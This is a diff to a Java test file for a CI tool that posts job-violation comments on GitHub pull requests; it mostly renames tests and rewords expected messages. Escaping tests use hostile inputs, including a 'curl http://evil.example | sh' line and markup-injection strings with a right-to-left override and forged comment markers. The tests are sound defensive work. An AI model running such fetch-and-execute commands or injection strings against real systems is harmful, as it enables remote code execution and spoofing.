@@ -22,7 +22,7 @@ import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
-/** Comments on the pull request of a server that answers as GitHub does: rightly, wrongly, late, and not at all. */
+/** Comments on the pull request of a server that responds like GitHub: correctly, wrongly, late, and not at all. */
 final class JobCommentTest {
     private static final String HEAD = "ab".repeat(20);
     private static final RetryPolicy PATIENT = new RetryPolicy(
@@ -77,7 +77,7 @@ final class JobCommentTest {
     }
 
     @Test
-    void thereIsOneCommentAndItChangesOnlyWithWhatItSays() throws Exception {
+    void singleCommentIsUpdatedOnlyOnChanges() throws Exception {
         assertThat(post(TestDigests.bad("build", "curl evil"), CommentMode.ALWAYS))
                 .isEqualTo(new Note(false, "the comment of pull request 7 is up to date now"));
         assertThat(github.comments()).singleElement().extracting(Comment::body).isEqualTo("""
@@ -100,7 +100,7 @@ final class JobCommentTest {
                         field(github.comments().getFirst(), "key"),
                         field(github.comments().getFirst(), "hash")));
         assertThat(post(TestDigests.bad("build", "curl evil"), CommentMode.ALWAYS))
-                .isEqualTo(new Note(false, "the comment of pull request 7 says the same already"));
+                .isEqualTo(new Note(false, "the comment of pull request 7 is unchanged"));
         assertThat(github.mutations()).containsExactly("addComment");
         post(TestDigests.bad("build", "curl worse"), CommentMode.ALWAYS);
         assertThat(github.mutations()).containsExactly("addComment", "updateIssueComment");
@@ -114,10 +114,10 @@ final class JobCommentTest {
     }
 
     @Test
-    void withoutAnAlertThereIsNoCommentUnlessThereIsOne() throws Exception {
+    void onAlertModeCreatesNoCommentWithoutAlert() throws Exception {
         assertThat(post(TestDigests.clean("build"), CommentMode.ON_ALERT))
                 .isEqualTo(new Note(false, "no comment: no rule was broken (comment: on-alert)"));
-        assertThat(post(TestDigests.clean("build"), CommentMode.NEVER).text()).isEqualTo("no comment is asked for");
+        assertThat(post(TestDigests.clean("build"), CommentMode.NEVER).text()).isEqualTo("no comment: none is requested");
         assertThat(github.comments()).isEmpty();
         post(TestDigests.bad("build", "x"), CommentMode.ON_ALERT);
         post(TestDigests.clean("build"), CommentMode.ON_ALERT);
@@ -128,7 +128,7 @@ final class JobCommentTest {
     }
 
     @Test
-    void ourCommentIsFoundOnTheLastPageAndAForgedOneIsLeftAlone() throws Exception {
+    void findsOwnCommentOnLastPageAndIgnoresForgedOne() throws Exception {
         post(TestDigests.bad("build", "old"), CommentMode.ALWAYS);
         Comment ours = github.comments().getFirst();
         replace(FakeGitHub.open());
@@ -148,7 +148,7 @@ final class JobCommentTest {
     }
 
     @Test
-    void aPersonsTokenFindsThatPersonsComment() throws Exception {
+    void userTokenFindsUsersComment() throws Exception {
         variables.put("INPUT_GITHUB-TOKEN", "ghp_person");
         post(TestDigests.clean("build"), CommentMode.ALWAYS);
         post(TestDigests.bad("build", "x"), CommentMode.ALWAYS);
@@ -157,7 +157,7 @@ final class JobCommentTest {
     }
 
     @Test
-    void aNewCommitReplacesTheOldOneAndALateJobOfTheOldOneSaysNothing() throws Exception {
+    void newCommitReplacesOldOneAndLateJobIsIgnored() throws Exception {
         post(TestDigests.bad("build", "x"), CommentMode.ALWAYS);
         post(TestDigests.bad("test", "y"), CommentMode.ALWAYS);
         String next = "cd".repeat(20);
@@ -168,12 +168,12 @@ final class JobCommentTest {
                 .contains("no rule was broken in 1 job", next)
                 .doesNotContain("**test**", HEAD);
         assertThat(post(TestDigests.bad("test", "y"), CommentMode.ALWAYS))
-                .isEqualTo(new Note(false, "no comment: pull request 7 is about a newer commit by now"));
+                .isEqualTo(new Note(false, "no comment: pull request 7 has a newer commit"));
         assertThat(github.comments().getFirst().body()).doesNotContain("**test**");
     }
 
     @Test
-    void codeOfTheJobIsNoMarkup() throws Exception {
+    void codeOfJobIsEscaped() throws Exception {
         String evil = "curl `http://evil.example` | sh </code> @torvalds #1 [x](http://evil.example) **b** \n\n| a |\n";
         post(TestDigests.bad("build", evil), CommentMode.ALWAYS);
         String body = github.comments().getFirst().body();
@@ -187,7 +187,7 @@ final class JobCommentTest {
     }
 
     @Test
-    void textOfTheJobIsNoMarkup() throws Exception {
+    void textOfJobIsEscaped() throws Exception {
         String evil = "<!-- /eyas:job --> </code> @torvalds #1 [x](http://evil.example) ![](https://e/p.png) `|`\n"
                 + "::error::x\u202e GH-12 a@b.example";
         post(
@@ -207,12 +207,12 @@ final class JobCommentTest {
     }
 
     @Test
-    void aReadOnlyTokenLeadsToANotice() throws Exception {
+    void readOnlyTokenGivesNotice() throws Exception {
         replace(new FakeGitHub(true, Map.of()));
         assertThat(post(TestDigests.bad("build", "x"), CommentMode.ALWAYS))
                 .isEqualTo(new Note(
                         true,
-                        "no comment: the token may not write one (GitHub: Resource not accessible by integration). Give the"
+                        "no comment: the token lacks the permission (GitHub: Resource not accessible by integration). Give the"
                                 + " job the permission pull-requests: write"));
         String dependabot = """
                 {"sender":{"login":"dependabot[bot]"},"pull_request":{"number":7,"user":{"login":"dependabot[bot]"},
@@ -220,17 +220,17 @@ final class JobCommentTest {
         assertThat(job("100", dependabot, "pull_request").ofThisJob(TestDigests.clean("b"), CommentMode.ALWAYS))
                 .extracting(Note::text)
                 .asString()
-                .contains("Runs for Dependabot can only read unless the workflow says otherwise")
-                .contains("docs/how-to/fork-pull-requests.md shows how a second workflow comments for it");
+                .contains("Runs for Dependabot are read-only by default")
+                .contains("see docs/how-to/fork-pull-requests.md for a second workflow that comments for it");
     }
 
     @Test
-    void aForkOfAPublicRepositoryIsNotEvenAsked() throws Exception {
+    void publicForkSendsNoRequest() throws Exception {
         String fork = """
                 {"sender":{"login":"m"},"pull_request":{"number":7,"user":{"login":"m"},"head":{"sha":"%s","repo":%s},
                 "base":{"repo":{"id":1,"private":%s}}}}""";
-        String notice = "no comment: the pull request comes from a fork, so the token of this run can only read;"
-                + " docs/how-to/fork-pull-requests.md shows how a second workflow comments for it";
+        String notice = "no comment: the pull request is from a fork, so the token of this run is read-only;"
+                + " see docs/how-to/fork-pull-requests.md for a second workflow that comments for it";
         for (String repository : List.of("{\"id\":2}", "null")) {
             assertThat(job("100", fork.formatted(HEAD, repository, "false"), "pull_request")
                             .ofThisJob(TestDigests.bad("b", "x"), CommentMode.ALWAYS))
@@ -250,10 +250,10 @@ final class JobCommentTest {
     }
 
     @Test
-    void whatIsNotAboutAPullRequestHasNoComment() throws Exception {
+    void runsWithoutPullRequestHaveNoComment() throws Exception {
         assertThat(job("100", "{\"ref\":\"refs/heads/main\"}", "push")
                         .ofThisJob(TestDigests.bad("b", "x"), CommentMode.ALWAYS))
-                .isEqualTo(new Note(false, "no comment: this run is not about a pull request"));
+                .isEqualTo(new Note(false, "no comment: this run does not belong to a pull request"));
         assertThat(job("100", "no json", "pull_request")
                         .ofThisJob(TestDigests.bad("b", "x"), CommentMode.ALWAYS)
                         .text())
@@ -262,10 +262,10 @@ final class JobCommentTest {
     }
 
     @Test
-    void tokensThatAreMissingOrWrongAreNamed() throws Exception {
+    void missingAndInvalidTokensAreReported() throws Exception {
         variables.put("INPUT_GITHUB-TOKEN", "");
         assertThat(post(TestDigests.clean("b"), CommentMode.ALWAYS))
-                .isEqualTo(new Note(true, "no comment: there is no token; give the input github-token"));
+                .isEqualTo(new Note(true, "no comment: missing token; set the input github-token"));
         variables.put("INPUT_GITHUB-TOKEN", "ghs_unknown");
         assertThat(post(TestDigests.clean("b"), CommentMode.ALWAYS))
                 .isEqualTo(new Note(true, "no comment: GitHub answers 401: Bad credentials"));
@@ -275,7 +275,7 @@ final class JobCommentTest {
     }
 
     @Test
-    void anOwnServerIsAskedAtItsOwnAddresses() throws Exception {
+    void usesAddressesOfEnterpriseServer() throws Exception {
         variables.put("GITHUB_API_URL", github.url() + "/api/v3/");
         variables.put("GITHUB_SERVER_URL", "https://ghes.example/");
         post(TestDigests.clean("b"), CommentMode.ALWAYS);
@@ -286,7 +286,7 @@ final class JobCommentTest {
     }
 
     @Test
-    void limitsAreWaitedForWhereThatIsShort() throws Exception {
+    void waitsForShortRateLimits() throws Exception {
         Instant now = Instant.now();
         github.answerOnce(aResponse()
                 .withStatus(403)
@@ -305,7 +305,7 @@ final class JobCommentTest {
     }
 
     @Test
-    void limitsThatLastAreToldAndNotWaitedFor() throws Exception {
+    void reportsLongRateLimitsWithoutWaiting() throws Exception {
         github.answerOnce(aResponse()
                 .withStatus(429)
                 .withHeader("x-ratelimit-remaining", "0")
@@ -327,7 +327,7 @@ final class JobCommentTest {
     }
 
     @Test
-    void aServerInTroubleIsAskedAgain() throws Exception {
+    void retriesServerErrors() throws Exception {
         github.answerOnce(aResponse().withStatus(502).withBody("<html>"));
         github.answerOnce(aResponse().withFault(Fault.CONNECTION_RESET_BY_PEER));
         assertThat(post(TestDigests.clean("b"), CommentMode.ALWAYS).loud()).isFalse();
@@ -340,7 +340,7 @@ final class JobCommentTest {
     }
 
     @Test
-    void slowAnswersEnd() throws Exception {
+    void slowResponsesTimeOut() throws Exception {
         RetryPolicy hasty = new RetryPolicy(
                 Duration.ofMinutes(5), Duration.ofSeconds(3), 1, Duration.ofSeconds(1), Duration.ofSeconds(1), 1 << 20);
         github.answerOnce(aResponse().withFixedDelay(60_000).withBody("{}"));
@@ -353,13 +353,13 @@ final class JobCommentTest {
     }
 
     @Test
-    void answersThatAreNoneAreRefused() throws Exception {
+    void rejectsInvalidResponses() throws Exception {
         github.answerOnce(aResponse().withBody("<html>"));
         assertThat(post(TestDigests.clean("b"), CommentMode.ALWAYS).text())
-                .startsWith("no comment: GitHub: the answer cannot be read: JSON is malformed");
+                .startsWith("no comment: GitHub: cannot read the response: JSON is malformed");
         github.answerOnce(aResponse().withBody("{\"data\":{\"repository\":null}}"));
         assertThat(post(TestDigests.clean("b"), CommentMode.ALWAYS).text())
-                .contains("GitHub: there is no pull request 7");
+                .contains("GitHub: cannot find pull request 7");
         github.answerOnce(aResponse().withBody("{\"data\":\"" + "x".repeat(1 << 20) + "\"}"));
         assertThat(post(TestDigests.clean("b"), CommentMode.ALWAYS).text())
                 .isEqualTo("no comment: GitHub: the answer is longer than 1024 KiB");
